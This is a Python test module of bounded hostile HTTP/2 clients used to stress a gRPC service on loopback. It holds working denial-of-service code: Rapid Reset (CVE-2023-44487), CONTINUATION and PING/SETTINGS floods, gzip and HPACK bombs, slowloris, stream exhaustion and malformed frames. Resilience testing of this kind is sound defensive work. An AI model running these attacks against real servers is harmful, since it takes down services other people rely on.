"""Hostile HTTP/2 clients, each bounded in count and in time, against one gRPC service on loopback.

Run as its own process (`python -m tests.hostile.attacks NAME HOST:PORT SECONDS`), so that the
attacker's own CPU is not taken from the well-behaved clients the tests and the bench measure
beside it; it prints one JSON object saying what it sent and what came back. Every attack goes
where a client without a token may go (health checking, reflection, or no call at all), except
where it says otherwise: a token would not stop it.

Built on the `h2` library (sans-I/O) where a client speaks HTTP/2 correctly and abuses it, and on
frames written by hand where it breaks the protocol.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
# An empty HealthCheckRequest, and a ServerReflectionRequest{list_services: "*"}, framed as gRPC.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
LIST_SERVICES = b"\x00\x00\x00\x00\x03:\x01*"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8

Report = dict[str, Any]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + (stream & 0x7FFFFFFF).to_bytes(4, "big") + payload


def grpc_headers(authority: str, path: str, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


def open_socket(host: str, port: int, *, rcvbuf: int | None = None, timeout: float = 5.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf is not None:
        # Set before connecting, so that the window the kernel advertises is small too.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(timeout)
    sock.connect((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


class Client:
    """An h2 client connection over a blocking socket."""

    def __init__(self, host: str, port: int, *, settings: dict[int, int] | None = None, **kw: Any) -> None:
        self.authority = f"{host}:{port}"
        self.sock = open_socket(host, port, **kw)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.closed = False
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, wait: float = 0.0) -> list[h2.events.Event]:
        """Reads what has arrived (waiting at most `wait`), without granting any window back."""
        events: list[h2.events.Event] = []
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                break
            try:
                data = self.sock.recv(1 << 16)
            except (ConnectionError, TimeoutError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                events += self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                self.closed = True
            wait = 0.0
        with contextlib.suppress(OSError):
            self.flush()
        return events

    def request(self, path: str, *extra: tuple[str, str], end: bool = False) -> int:
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, grpc_headers(self.authority, path, *extra), end_stream=end)
        return stream

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def statuses(events: list[h2.events.Event]) -> Iterator[str]:
    for event in events:
        if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
            for name, value in event.headers:
                if name in (b"grpc-status", "grpc-status"):
                    yield value.decode() if isinstance(value, bytes) else value
        elif isinstance(event, h2.events.StreamReset):
            yield f"RST_STREAM({event.error_code})"


def _bomb(size: int) -> bytes:
    """gzip of `size` zero bytes (cached: making it costs a second or two)."""
    cache = Path(os.environ.get("TMPDIR", "/tmp")) / f"lowtide-hostile-bomb-{size}.gz"
    if cache.exists():
        return cache.read_bytes()
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size >> 20)]
    parts.append(compressor.flush())
    data = b"".join(parts)
    cache.write_bytes(data)
    return data


def gzip_bomb(host: str, port: int, until: float) -> Report:
    """A Health/Check whose message is 400 MB of zeros gzipped to 400 KB, two at a time on one
    connection, again and again. The server must refuse it without inflating it all (grpc
    inflates up to the service's maximum message size, then refuses)."""
    bomb = _bomb(400 << 20)
    message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    sent, answers = 0, list[str]()
    client = Client(host, port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
    while time.monotonic() < until and sent < 40 and not client.closed:
        streams = []
        for _ in range(2):
            stream = client.request(HEALTH_CHECK, ("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip"))
            streams.append(stream)
            sent += 1
        # Obey flow control: send each message as the server's window allows.
        pending = {stream: memoryview(message) for stream in streams}
        deadline = min(until, time.monotonic() + 10)
        while pending and time.monotonic() < deadline and not client.closed:
            for stream, rest in list(pending.items()):
                try:
                    window = min(client.conn.local_flow_control_window(stream), client.conn.max_outbound_frame_size)
                    if window > 0:
                        client.conn.send_data(stream, bytes(rest[:window]), end_stream=len(rest) <= window)
                        pending[stream] = rest[window:]
                        if len(rest) <= window:
                            del pending[stream]
                except h2.exceptions.StreamClosedError:
                    del pending[stream]
            client.flush()
            answers += statuses(client.pump(0.01))
        answers += statuses(client.pump(1.0))
    client.close()
    return {"requests": sent, "bomb_bytes": len(bomb), "inflates_to": 400 << 20, "answers": _count(answers)}


def reflection_no_window(host: str, port: int, until: float) -> Report:
    """A reflection stream that asks for the service list again and again and never grants a
    byte of window back: the answers pile up on the server unless it stops reading."""
    client = Client(host, port)
    stream = client.request(REFLECTION)
    client.flush()
    requests = 0
    batch = LIST_SERVICES * 1000
    while time.monotonic() < until and not client.closed:
        window = min(client.conn.local_flow_control_window(stream), client.conn.max_outbound_frame_size)
        if window >= len(LIST_SERVICES):
            count = min(window // len(LIST_SERVICES), 1000)
            client.conn.send_data(stream, batch[: count * len(LIST_SERVICES)])
            requests += count
            try:
                client.flush()
            except (TimeoutError, OSError):
                break
        client.pump(0.05)
    # Hold the stream open (and the answers unread) to the end of the attack's time.
    while time.monotonic() < until and not client.closed:
        client.pump(0.2)
    client.close()
    return {"requests": requests}


def rapid_reset(host: str, port: int, until: float) -> Report:
    """CVE-2023-44487: open a stream and cancel it at once, as fast as the socket takes it, on
    one connection (a new one when the server ends it)."""
    streams = connections = 0
    answers: list[str] = []
    while time.monotonic() < until and streams < 200_000:
        client = Client(host, port)
        connections += 1
        while time.monotonic() < until and not client.closed and streams < 200_000:
            for _ in range(100):
                try:
                    stream = client.request(HEALTH_CHECK)
                    client.conn.send_data(stream, EMPTY_MESSAGE)
                    client.conn.reset_stream(stream)
                except h2.exceptions.ProtocolError:
                    client.closed = True
                    break
                streams += 1
            try:
                client.flush()
            except (TimeoutError, OSError):
                break
            answers += statuses(client.pump())
        client.close()
    return {"streams_reset": streams, "connections": connections, "answers": _count(answers)}


def _flood(host: str, port: int, until: float, one: bytes, limit: int) -> Report:
    """Sends `one` frame `limit` times (or until the server stops reading) and never reads."""
    sock = open_socket(host, port, rcvbuf=4096, timeout=1.0)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    batch = one * 1000
    sent = 0
    stalled = False
    while time.monotonic() < until and sent < limit:
        try:
            sock.sendall(batch)
        except TimeoutError:
            stalled = True  # the server stopped reading this connection
            break
        except OSError:
            break
        sent += 1000
    while time.monotonic() < until:
        time.sleep(0.1)
    sock.close()
    return {"frames": sent, "server_stopped_reading": stalled}


def settings_flood(host: str, port: int, until: float) -> Report:
    """SETTINGS frames, each of which the server must acknowledge, from a client that never reads."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS, 100))
    return _flood(host, port, until, one, 2_000_000)


def ping_flood(host: str, port: int, until: float) -> Report:
    """PING frames, each of which the server must answer, from a client that never reads."""
    return _flood(host, port, until, frame(PING, 0, 0, b"12345678"), 2_000_000)


def window_update_trickle(host: str, port: int, until: float) -> Report:
    """1,000 Health/Watch streams with no window to answer in, then connection WINDOW_UPDATEs of
    one byte each, as fast as the socket takes them."""
    client = Client(host, port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.pump(0.5)
    opened = 0
    for _ in range(1000):
        try:
            stream = client.request(HEALTH_WATCH)
            client.conn.send_data(stream, EMPTY_MESSAGE, end_stream=True)
        except h2.exceptions.ProtocolError:
            break
        opened += 1
    client.flush()
    one = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
    batch = one * 1000
    updates = 0
    while time.monotonic() < until and updates < 2_000_000 and not client.closed:
        try:
            client.sock.sendall(batch)
        except (TimeoutError, OSError):
            break
        updates += 1000
        # Read (and drop) what comes, granting no stream any window.
        ready, _, _ = select.select([client.sock], [], [], 0)
        if ready:
            try:
                if not client.sock.recv(1 << 16):
                    client.closed = True
            except OSError:
                client.closed = True
    client.close()
    return {"streams": opened, "window_updates": updates}


def many_watch_streams(host: str, port: int, until: float) -> Report:
    """10,000 Health/Watch streams on one connection, written by hand, ignoring the server's
    MAX_CONCURRENT_STREAMS."""
    sock = open_socket(host, port, timeout=1.0)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    encoder = hpack.Encoder()
    authority = f"{host}:{port}"
    opened = 0
    refused = 0
    stream = 1
    buffer = bytearray()
    for _ in range(10_000):
        if time.monotonic() >= until:
            break
        block = encoder.encode(grpc_headers(authority, HEALTH_WATCH))
        buffer += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        stream += 2
        opened += 1
        if len(buffer) > 1 << 16:
            try:
                sock.sendall(buffer)
            except (TimeoutError, OSError):
                break
            buffer.clear()
            refused += _drain_count(sock, RST_STREAM)
    with contextlib.suppress(TimeoutError, OSError):
        sock.sendall(buffer)
    while time.monotonic() < until:
        refused += _drain_count(sock, RST_STREAM, wait=0.2)
    sock.close()
    return {"streams": opened, "rst_stream_frames_seen": refused}


def _drain_count(sock: socket.socket, kind: int, wait: float = 0.0) -> int:
    """Reads what has arrived and counts the frame headers of `kind` in it (roughly: frames may
    straddle reads)."""
    count = 0
    ready, _, _ = select.select([sock], [], [], wait)
    if not ready:
        return 0
    try:
        data = sock.recv(1 << 20)
    except OSError:
        return 0
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == kind:
            count += 1
        at += 9 + length
    return count


def unfinished_large_streams(host: str, port: int, until: float) -> Report:
    """24 Health/Check calls on one connection, each announcing a 4 MB message and sending it as
    fast as flow control allows, never finishing it."""
    client = Client(host, port)
    streams = []
    for _ in range(24):
        stream = client.request(HEALTH_CHECK)
        client.conn.send_data(stream, b"\x00" + struct.pack(">I", (4 << 20) - 64))
        streams.append(stream)
    client.flush()
    chunk = bytes(1 << 14)
    sent = 0
    while time.monotonic() < until and not client.closed:
        progressed = False
        for stream in streams:
            try:
                window = min(client.conn.local_flow_control_window(stream), len(chunk))
                if window > 0 and sent < 24 * (4 << 20):
                    client.conn.send_data(stream, chunk[:window])
                    sent += window
                    progressed = True
            except h2.exceptions.StreamClosedError:
                continue
        try:
            client.flush()
        except (TimeoutError, OSError):
            break
        client.pump(0.01 if progressed else 0.2)
    client.close()
    return {"streams": len(streams), "bytes_sent": sent}


def _header_requests(host: str, port: int, until: float, copies: int, limit: int) -> Report:
    """Health/Check requests each carrying `copies` references to one 4,000-byte header kept in
    the HPACK table: each decodes to copies x 4 KB from a few bytes on the wire."""
    client = Client(host, port)
    big = ("x-lowtide-hostile", "A" * 4000)
    requests = 0
    answers: list[str] = []
    while time.monotonic() < until and requests < limit:
        if client.closed:
            client.close()
            client = Client(host, port)
        try:
            for _ in range(20):
                stream = client.request(HEALTH_CHECK, *([big] * copies))
                client.conn.send_data(stream, EMPTY_MESSAGE, end_stream=True)
                requests += 1
            client.flush()
        except (h2.exceptions.ProtocolError, TimeoutError, OSError):
            client.closed = True
            continue
        answers += statuses(client.pump(0.01))
    answers += statuses(client.pump(0.5))
    client.close()
    return {"requests": requests, "decoded_header_bytes_each": copies * 4000, "answers": _count(answers)}


def large_headers(host: str, port: int, until: float) -> Report:
    """Legal requests with 12 KB of headers each (under the services' 16 KB limit), from about
    80 bytes each on the wire."""
    return _header_requests(host, port, until, copies=3, limit=20_000)


def hpack_bomb(host: str, port: int, until: float) -> Report:
    """Requests whose headers decode to 400 KB each (100 references to a 4 KB table entry)."""
    return _header_requests(host, port, until, copies=100, limit=5_000)


def continuation_flood(host: str, port: int, until: float) -> Report:
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KB headers without
    end (CVE-2024-27316 class), on new connections whenever the server closes one."""
    literal = hpack.Encoder().encode([("x-lowtide-flood", "B" * 16000)], huffman=False)
    connections = sent = 0
    while time.monotonic() < until and sent < 100_000:
        sock = open_socket(host, port, timeout=1.0)
        connections += 1
        block = hpack.Encoder().encode(grpc_headers(f"{host}:{port}", HEALTH_CHECK))
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, block))
            while time.monotonic() < until and sent < 100_000:
                sock.sendall(frame(CONTINUATION, 0, 1, literal[:16000]) * 16)
                sent += 16
        except (TimeoutError, OSError):
            pass
        sock.close()
    return {"continuation_frames": sent, "connections": connections}


def slowloris(host: str, port: int, until: float) -> Report:
    """200 connections that send the preface and a request one byte at a time, slowly."""
    block = hpack.Encoder().encode(grpc_headers(f"{host}:{port}", HEALTH_CHECK))
    message = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, b"\x00")
    socks = []
    for _ in range(200):
        try:
            socks.append(open_socket(host, port, timeout=1.0))
        except OSError:
            break
    at = 0
    closed = 0
    while time.monotonic() < until and at < len(message):
        for sock in list(socks):
            try:
                sock.send(message[at : at + 1])
            except OSError:
                socks.remove(sock)
                closed += 1
        at += 1
        time.sleep(0.05)
    while time.monotonic() < until:
        time.sleep(0.1)
    for sock in socks:
        sock.close()
    return {"connections": len(socks) + closed, "bytes_each": at, "closed_by_server": closed}


def no_preface(host: str, port: int, until: float) -> Report:
    """500 connections that never send a byte."""
    socks = []
    for _ in range(500):
        if time.monotonic() >= until:
            break
        try:
            socks.append(open_socket(host, port, timeout=1.0))
        except OSError:
            break
    while time.monotonic() < until:
        time.sleep(0.1)
    for sock in socks:
        sock.close()
    return {"connections": len(socks)}


def _malformed_cases(authority: str) -> list[tuple[str, bytes]]:
    block = hpack.Encoder().encode(grpc_headers(authority, HEALTH_CHECK))
    hello = PREFACE + frame(SETTINGS, 0, 0)
    return [
        ("garbage instead of the preface", os.urandom(64)),
        ("frame longer than the maximum", hello + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(1024)),
        ("DATA on stream 0", hello + frame(DATA, 0, 0, b"x")),
        ("HEADERS on stream 0", hello + frame(HEADERS, END_HEADERS, 0, block)),
        ("HEADERS on an even stream", hello + frame(HEADERS, END_HEADERS, 2, block)),
        ("SETTINGS of 5 bytes", hello + frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00")),
        ("SETTINGS ACK with payload", hello + frame(SETTINGS, ACK, 0, struct.pack(">HI", 3, 1))),
        ("PING of 3 bytes", hello + frame(PING, 0, 0, b"abc")),
        ("WINDOW_UPDATE of 0", hello + frame(WINDOW_UPDATE, 0, 0, bytes(4))),
        ("window past 2^31-1", hello + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2),
        ("invalid HPACK", hello + frame(HEADERS, END_HEADERS, 1, b"\xff" * 16)),
        ("CONTINUATION without HEADERS", hello + frame(CONTINUATION, END_HEADERS, 1, block)),
        ("padding longer than the frame", hello + frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff" + block)),
        ("stream depending on itself", hello + frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 16))),
        ("RST_STREAM on an idle stream", hello + frame(RST_STREAM, 0, 7, bytes(4))),
        ("PUSH_PROMISE from a client", hello + frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + block)),
        ("unknown frame type 0xfa", hello + frame(0xFA, 0, 0, b"ignored") + frame(PING, 0, 0, bytes(8))),
        (
            "stream id going backwards",
            hello + frame(HEADERS, END_HEADERS, 5, block) + frame(HEADERS, END_HEADERS, 3, block),
        ),
        ("DATA before HEADERS", hello + frame(DATA, END_STREAM, 1, EMPTY_MESSAGE)),
        ("truncated frame header, then close", hello + b"\x00\x00"),
    ]


def malformed(host: str, port: int, until: float) -> Report:
    """Connections that each send one malformed frame (or sequence), round after round."""
    cases = _malformed_cases(f"{host}:{port}")
    sent = goaways = 0
    while time.monotonic() < until and sent < 5_000:
        for _name, data in cases:
            try:
                sock = open_socket(host, port, timeout=1.0)
            except OSError:
                continue
            with contextlib.suppress(OSError):
                sock.sendall(data)
                sent += 1
                goaways += _drain_count(sock, GOAWAY, wait=0.05)
            sock.close()
    return {"connections": sent, "kinds": len(cases), "goaway_frames_seen": goaways}


def _count(answers: list[str]) -> dict[str, int]:
    counted: dict[str, int] = {}
    for answer in answers:
        counted[answer] = counted.get(answer, 0) + 1
    return counted


ATTACKS: dict[str, Callable[[str, int, float], Report]] = {
    "gzip_bomb": gzip_bomb,
    "reflection_no_window": reflection_no_window,
    "rapid_reset": rapid_reset,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_trickle": window_update_trickle,
    "many_watch_streams": many_watch_streams,
    "unfinished_large_streams": unfinished_large_streams,
    "large_headers": large_headers,
    "hpack_bomb": hpack_bomb,
    "continuation_flood": continuation_flood,
    "slowloris": slowloris,
    "no_preface": no_preface,
    "malformed": malformed,
}


def main(argv: list[str]) -> int:
    name, target, seconds = argv
    host, _, port = target.rpartition(":")
    until = time.monotonic() + float(seconds)
    started = time.monotonic()
    try:
        report = ATTACKS[name](host, int(port), until)
    except (ConnectionError, TimeoutError) as error:
        # The server closing on us is an outcome, not a failure of the attacker.
        report = {"ended_by": f"{type(error).__name__}: {error}"}
    report["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
